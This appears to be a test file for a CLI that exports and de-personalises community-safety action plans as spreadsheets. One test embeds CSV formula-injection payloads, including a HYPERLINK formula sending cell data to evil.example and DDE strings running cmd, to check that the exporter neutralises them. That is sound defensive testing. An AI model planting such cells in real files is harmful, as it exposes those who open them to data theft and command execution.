/**
 * The uniform format through the command line: exact header, one record per action, no name left
 * when de-personalised, hostile cells neutralised (and LibreOffice evaluating none of them),
 * collating files from several agencies.
 */
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'fs';
import os from 'os';
import path from 'path';
import ExcelJS from 'exceljs';
import { runCaptured } from '../support/cli';
import { UNIFORM_COLUMNS, parseCsv } from '../../src/core/share';
import { seed003Grid } from '../fixtures/seed003';
import { gridsToXlsx } from '../fixtures/workbook';
import { buildGrid } from '../fixtures/grid-builder';
import { HAS_SOFFICE, libreofficeConvert } from '../support/libreoffice';

const dir = mkdtempSync(path.join(os.tmpdir(), 'saferplan-share-'));
const TODAY = new Date(Date.UTC(2003, 8, 1));

const run = (args: string[]) => runCaptured(args, TODAY);

const OFFICERS = ["Tim O'Neill", 'Dave Simmonds', 'Helen Boocock', 'Andy Luscombe', 'Andy Smith', 'Karen Oliffe', 'Sharon Squires'];

let seed003: string;
beforeAll(async () => {
  seed003 = path.join(dir, 'derby.xlsx');
  writeFileSync(seed003, await gridsToXlsx([seed003Grid()]));
});

test('seed 003 exports exactly the v1 header and one action record per action', async () => {
  const csv = path.join(dir, 'derby.csv');
  expect((await run(['export', seed003, '-o', csv])).status).toBe(0);
  const text = readFileSync(csv, 'utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  expect(text).toContain('\r\n');
  const rows = parseCsv(text);
  expect(rows[0]).toEqual([...UNIFORM_COLUMNS]);
  const actions = rows.slice(1).filter((r) => r[2] === 'action');
  expect(actions).toHaveLength(17);
  expect(rows.slice(1).every((r) => r[0] === '1')).toBe(true);
  expect(text).toContain('Helen Boocock');
});

test("de-personalised, none of the officers' names appear anywhere", async () => {
  const csv = path.join(dir, 'derby-depersonalised.csv');
  const xlsx = path.join(dir, 'derby-depersonalised.xlsx');
  expect((await run(['export', seed003, '-o', csv, '--depersonalise'])).status).toBe(0);
  expect((await run(['export', seed003, '-o', xlsx, '--depersonalise'])).status).toBe(0);
  const text = readFileSync(csv, 'utf8').toLowerCase();
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(xlsx);
  const cells: string[] = [];
  wb.eachSheet((ws) => ws.eachRow((r) => r.eachCell((c) => cells.push(String(c.text).toLowerCase()))));
  for (const name of OFFICERS) {
    for (const part of [name, ...name.split(' ')]) {
      const needle = part.toLowerCase();
      const word = new RegExp(`\\b${needle.replace(/[.*+?^${}()|[\]\\']/g, '.')}\\b`);
      expect({ part, inCsv: word.test(text) }).toEqual({ part, inCsv: false });
      expect({ part, inXlsx: cells.some((c) => word.test(c)) }).toEqual({ part, inXlsx: false });
    }
  }
  const rows = parseCsv(readFileSync(csv, 'utf8'));
  const lead = rows[0].indexOf('lead_officer');
  expect(rows.slice(1).every((r) => r[lead] === '')).toBe(true);
  expect(cells.some((c) => c.includes('de-personalised'))).toBe(true);
});

test('a hostile plan exports every dangerous cell neutralised, its text kept, and LibreOffice evaluates none', async () => {
  const hostile = path.join(dir, 'hostile.xlsx');
  const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+44 1256 000000', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];
  writeFileSync(
    hostile,
    await gridsToXlsx([
      buildGrid('Plan', [
        ['No', 'Action', 'Lead', 'Target', 'Timescale'],
        ['1.1', attacks[0], attacks[1], 'Fewer calls', 'March 2006'],
        ['1.2', attacks[2], attacks[3], 'Reduce by -45 incidents', 'March 2006'],
      ]),
    ]),
  );
  const csv = path.join(dir, 'hostile.csv');
  const xlsx = path.join(dir, 'hostile-share.xlsx');
  expect((await run(['export', hostile, '-o', csv])).status).toBe(0);
  expect((await run(['export', hostile, '-o', xlsx])).status).toBe(0);
  const rows = parseCsv(readFileSync(csv, 'utf8'));
  for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  const flat = rows.flat();
  for (const a of attacks) expect(flat).toContain(`'${a}`);

  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(xlsx);
  wb.eachSheet((ws) => ws.eachRow((r) => r.eachCell((c) => expect(c.formula ?? null).toBeNull())));

  if (!HAS_SOFFICE) return console.warn('LibreOffice check SKIPPED: soffice not on PATH');
  const lo = path.join(dir, 'lo');
  mkdirSync(lo, { recursive: true });
  const opened = libreofficeConvert(csv, 'xlsx', lo);
  const back = new ExcelJS.Workbook();
  await back.xlsx.readFile(opened);
  const texts: string[] = [];
  back.eachSheet((ws) =>
    ws.eachRow((r) =>
      r.eachCell((c) => {
        expect(c.formula ?? null).toBeNull();
        texts.push(String(c.text));
      }),
    ),
  );
  for (const a of attacks) expect(texts).toContain(`'${a}`);
});

test("collate combines agencies' files and rejects another schema version with a clear message", async () => {
  const a = path.join(dir, 'agency-a.csv');
  expect((await run(['export', seed003, '-o', a])).status).toBe(0);
  const other = path.join(dir, 'other.xlsx');
  writeFileSync(
    other,
    await gridsToXlsx([
      buildGrid('Plan', [
        ['No', 'Action', 'Lead', 'Timescale'],
        ['9.1', 'A probation action', 'Probation', 'March 2004'],
      ]),
    ]),
  );
  const b = path.join(dir, 'agency-b.xlsx');
  expect((await run(['export', other, '-o', b])).status).toBe(0);
  const out = path.join(dir, 'collated.csv');
  const r = await run(['collate', a, b, '-o', out]);
  expect(r.status).toBe(0);
  expect(r.stdout).toBe('18 records from 2 files.');
  const v2 = path.join(dir, 'v2.csv');
  writeFileSync(v2, readFileSync(a, 'utf8').replace(/\r\n1,/g, '\r\n2,'));
  const bad = await run(['collate', a, v2, '-o', path.join(dir, 'never.csv')]);
  expect(bad.status).toBe(2);
  expect(bad.stderr).toMatch(/v2\.csv: uniform format version 2 found, expected version 1/);
});

async function dataSharingText(file: string): Promise<{ sheet: string; about: string }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const text = (name: string) => {
    const cells: string[] = [];
    wb.getWorksheet(name)?.eachRow((r) => r.eachCell((c) => cells.push(String(c.text))));
    return cells.join('\n');
  };
  return { sheet: text('Data sharing'), about: text('About') };
}

test('build writes the Data sharing sheet de-personalised unless --personal is given', async () => {
  const plain = path.join(dir, 'built.xlsx');
  const r = await run(['build', seed003, '-o', plain]);
  expect(r.status).toBe(0);
  expect(r.stderr).toMatch(/De-personalised: removed \d+ named people/);
  const d = await dataSharingText(plain);
  for (const name of OFFICERS) expect({ name, found: d.sheet.includes(name) }).toEqual({ name, found: false });
  expect(d.about).toMatch(/De-personalised/);
  expect(d.about).toMatch(/\d+ named people, 0 e-mail addresses/);

  const personal = path.join(dir, 'built-personal.xlsx');
  const p = await run(['build', seed003, '-o', personal, '--personal']);
  expect(p.status).toBe(0);
  expect(p.stderr).toMatch(/personal data/);
  const q = await dataSharingText(personal);
  expect(q.sheet).toContain('Helen Boocock');
  expect(q.about).toMatch(/Personalised: contains the names of lead officers \(personal data\)/);
});

test('export --round-nhs applies the NHS rule and says so', async () => {
  const csv = path.join(dir, 'nhs.csv');
  const r = await run(['export', seed003, '-o', csv, '--depersonalise', '--round-nhs']);
  expect(r.status).toBe(0);
  expect(r.stdout).toMatch(/de-personalised, NHS rule \(1-7 as \*, others to the nearest 5\)\.$/);
  const bad = await run(['export', seed003, '-o', csv, '--round-nhs=3']);
  expect(bad.status).toBe(2);
  expect(bad.stderr).toMatch(/^saferplan export: Option '--round-nhs' does not take an argument\nusage: .*\[--round-nhs\]$/);
});
